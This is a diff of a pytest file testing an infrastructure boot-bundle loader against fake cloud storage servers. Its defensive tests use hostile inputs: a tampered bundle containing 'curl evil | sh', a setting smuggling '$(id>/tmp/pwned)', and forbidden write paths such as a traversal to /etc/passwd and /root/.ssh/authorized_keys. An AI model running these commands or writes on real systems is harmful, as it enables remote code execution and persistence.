@@ -1,7 +1,8 @@
 """The boot bundle: what the user data carries (little, with room to grow on every cloud), and the loader
-(fetch_bundle.py) run for real against an S3-compatible server on loopback: it installs a bundle whose bytes match
-the sha256 in the user data, refuses one that does not, writes nowhere but its allowed places, and does nothing on
-a second boot."""
+(fetch_bundle.py) run for real against each cloud's object storage on loopback (signatures checked with the
+cloud's own SDK): it installs a bundle whose bytes match the sha256 in the user data, waits out a role that has
+not reached the storage service yet, refuses a bundle that does not match, writes nowhere but its allowed
+places, and does nothing on a second boot."""
 
 from __future__ import annotations
 
@@ -10,11 +11,12 @@ import json
 import os
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 import yaml
-from bootstrap_fakes import s3_client
+from bootstrap_fakes import CloudStore, cloud_store_server, metadata_server
 from sample_plans import sample_plan
 
 from inferstack.bootstrap import BootstrapOptions, render_bootstrap
@@ -73,33 +75,44 @@ def test_an_unchanged_plan_renders_the_same_bundle_and_a_changed_one_another_key
 #### The loader, run for real ####
 
 
-def run_loader(tmp_path: Path, result: RenderedBootstrap, storage: str, metadata: str) -> tuple[int, str]:
+def run_loader(tmp_path: Path, result: RenderedBootstrap, store: CloudStore, metadata: str,
+               auth_grace_s: float = 0) -> tuple[int, str]:
     """fetch_bundle.py as shipped, with the user data's settings (endpoints moved to the loopback servers), installing
     under tmp_path/root instead of /."""
     settings = user_data_files(result.user_data)["/etc/inferstack/bootstrap.env"]
-    settings = settings.replace("STORAGE_ENDPOINT=\n", f"STORAGE_ENDPOINT={storage}\n").replace(
+    settings = settings.replace("STORAGE_ENDPOINT=\n", f"STORAGE_ENDPOINT={store.url}\n").replace(
         "METADATA_ENDPOINT=\n", f"METADATA_ENDPOINT={metadata}\n")
     (tmp_path / "bootstrap.env").write_text(settings)
     env = {**os.environ, "INFERSTACK_CONFIG": str(tmp_path / "bootstrap.env"),
            "INFERSTACK_BUNDLE_STATE": str(tmp_path / "state" / "bundle.sha256"),
-           "INFERSTACK_ROOT": str(tmp_path / "root")}
+           "INFERSTACK_ROOT": str(tmp_path / "root"), "INFERSTACK_AUTH_GRACE_S": str(auth_grace_s)}
     process = subprocess.run([sys.executable, str(FILES_DIR / "fetch_bundle.py")], env=env, capture_output=True,
                              text=True, timeout=120)
     return process.returncode, process.stderr
 
 
-def store(storage: str, key: str, body: str) -> None:
-    client = s3_client(storage)
-    if BUCKET not in [b["Name"] for b in client.list_buckets().get("Buckets", [])]:
-        client.create_bucket(Bucket=BUCKET)
-    client.put_object(Bucket=BUCKET, Key=key, Body=body.encode())
+@pytest.fixture(params=CLOUDS)
+def cloud(request: pytest.FixtureRequest) -> str:
+    return str(request.param)
 
 
-def test_the_loader_installs_the_bundle_it_was_told_to_expect(tmp_path: Path, s3_endpoint: str,
-                                                              metadata_url: str) -> None:
-    result = rendered()
-    store(s3_endpoint, result.bundle_key, result.bundle)
-    code, log = run_loader(tmp_path, result, s3_endpoint, metadata_url)
+@pytest.fixture
+def store(cloud: str) -> Iterator[CloudStore]:
+    with cloud_store_server(cloud, sample_plan(cloud, "cpu-llm").region) as fake:  # type: ignore[arg-type]
+        yield fake
+
+
+@pytest.fixture(scope="module")
+def metadata() -> Iterator[str]:
+    with metadata_server() as url:
+        yield url
+
+
+def test_the_loader_installs_the_bundle_it_was_told_to_expect_on_every_cloud(
+        tmp_path: Path, cloud: str, store: CloudStore, metadata: str) -> None:
+    result = rendered(cloud)
+    store.objects[f"{BUCKET}/{result.bundle_key}"] = result.bundle.encode()
+    code, log = run_loader(tmp_path, result, store, metadata)
     assert code == 0, log
     for entry in json.loads(result.bundle)["files"]:
         installed = tmp_path / "root" / entry["path"].lstrip("/")
@@ -107,16 +120,29 @@ def test_the_loader_installs_the_bundle_it_was_told_to_expect(tmp_path: Path, s3
         assert oct(installed.stat().st_mode & 0o777) == oct(int(entry["mode"], 8))
     assert (tmp_path / "state" / "bundle.sha256").read_text().strip() == result.bundle_sha256
     before = {p: p.stat().st_mtime_ns for p in (tmp_path / "root").rglob("*")}
-    code, log = run_loader(tmp_path, result, s3_endpoint, metadata_url)  # a second boot
+    fetched = len(store.requests)
+    code, log = run_loader(tmp_path, result, store, metadata)  # a second boot
     assert code == 0 and "already installed" in log
+    assert len(store.requests) == fetched  # nothing fetched
     assert {p: p.stat().st_mtime_ns for p in (tmp_path / "root").rglob("*")} == before
 
 
+def test_a_role_that_has_not_reached_the_storage_service_yet_is_waited_for(tmp_path: Path, metadata: str) -> None:
+    result = rendered("aws")
+    with cloud_store_server("aws", "us-east-1") as store:
+        store.objects[f"{BUCKET}/{result.bundle_key}"] = result.bundle.encode()
+        store.refuse_next = 2  # 403, as S3 answers while a new instance profile propagates
+        code, log = run_loader(tmp_path, result, store, metadata, auth_grace_s=30)
+        statuses = [status for _, _, status in store.requests]
+    assert code == 0, log
+    assert statuses[:2] == [403, 403] and statuses[-1] == 200
+
+
 def test_a_bundle_whose_bytes_differ_from_the_user_datas_sha256_is_never_installed(
-        tmp_path: Path, s3_endpoint: str, metadata_url: str) -> None:
-    result = rendered(api_key_secret="tampered")
-    store(s3_endpoint, result.bundle_key, result.bundle.replace("set -euo pipefail", "curl evil | sh"))
-    code, log = run_loader(tmp_path, result, s3_endpoint, metadata_url)
+        tmp_path: Path, store: CloudStore, cloud: str, metadata: str) -> None:
+    result = rendered(cloud)
+    store.objects[f"{BUCKET}/{result.bundle_key}"] = result.bundle.replace("set -euo pipefail", "curl evil | sh").encode()
+    code, log = run_loader(tmp_path, result, store, metadata)
     assert code == 3, log
     assert f"the user data expects {result.bundle_sha256}: not installed" in log
     assert not (tmp_path / "root").exists() and not (tmp_path / "state").exists()
@@ -125,8 +151,7 @@ def test_a_bundle_whose_bytes_differ_from_the_user_datas_sha256_is_never_install
 @pytest.mark.parametrize("path", ["/etc/cron.d/inferstack", "/usr/local/lib/inferstack/../../../etc/passwd",
                                   "/root/.ssh/authorized_keys", "/etc/systemd/system/sshd.service",
                                   "/usr/local/lib/inferstack/sub/boot.sh", "usr/local/lib/inferstack/x.sh"])
-def test_a_bundle_that_writes_outside_its_places_is_refused_whole(tmp_path: Path, s3_endpoint: str,
-                                                                 metadata_url: str, path: str) -> None:
+def test_a_bundle_that_writes_outside_its_places_is_refused_whole(tmp_path: Path, metadata: str, path: str) -> None:
     result = rendered()
     document = json.loads(result.bundle)
     document["files"].append({"path": path, "mode": "0644", "content": "x"})
@@ -134,26 +159,27 @@ def test_a_bundle_that_writes_outside_its_places_is_refused_whole(tmp_path: Path
     sha256 = hashlib.sha256(bundle.encode()).hexdigest()
     forged = RenderedBootstrap(result.user_data.replace(result.bundle_sha256, sha256), bundle,
                                f"{BUNDLE_PREFIX}{sha256}.json", sha256)
-    store(s3_endpoint, forged.bundle_key.replace(result.bundle_sha256, sha256), bundle)
-    code, log = run_loader(tmp_path, forged, s3_endpoint, metadata_url)
+    with cloud_store_server("aws", "us-east-1") as store:
+        store.objects[f"{BUCKET}/{forged.bundle_key}"] = bundle.encode()
+        code, log = run_loader(tmp_path, forged, store, metadata)
     assert code == 2, log
     assert "bundle writes outside the allowed places" in log
     assert not (tmp_path / "root").exists()
 
 
-def test_settings_that_are_not_plain_key_value_lines_stop_the_loader(tmp_path: Path, s3_endpoint: str,
-                                                                    metadata_url: str) -> None:
+def test_settings_that_are_not_plain_key_value_lines_stop_the_loader(tmp_path: Path, metadata: str) -> None:
     result = rendered()
     broken = RenderedBootstrap(result.user_data.replace("DEVICE=cpu\n", "DEVICE=$(id>/tmp/pwned)\n"),
                                result.bundle, result.bundle_key, result.bundle_sha256)
-    code, log = run_loader(tmp_path, broken, s3_endpoint, metadata_url)
+    with cloud_store_server("aws", "us-east-1") as store:
+        code, log = run_loader(tmp_path, broken, store, metadata)
+        assert store.requests == []
     assert code == 2 and "not a KEY=VALUE setting" in log
     assert not Path("/tmp/pwned").exists()
 
 
-def test_a_missing_bundle_fails_naming_the_storage(tmp_path: Path, s3_endpoint: str, metadata_url: str) -> None:
-    result = rendered(api_key_secret="never-stored")
-    store(s3_endpoint, "unrelated", "x")
-    code, log = run_loader(tmp_path, result, s3_endpoint, metadata_url)
+def test_a_missing_bundle_fails_naming_the_storage(tmp_path: Path, metadata: str) -> None:
+    with cloud_store_server("aws", "us-east-1") as store:
+        code, log = run_loader(tmp_path, rendered(api_key_secret="never-stored"), store, metadata)
     assert code == 4, log
     assert "object storage unreachable or access denied" in log and "404" in log
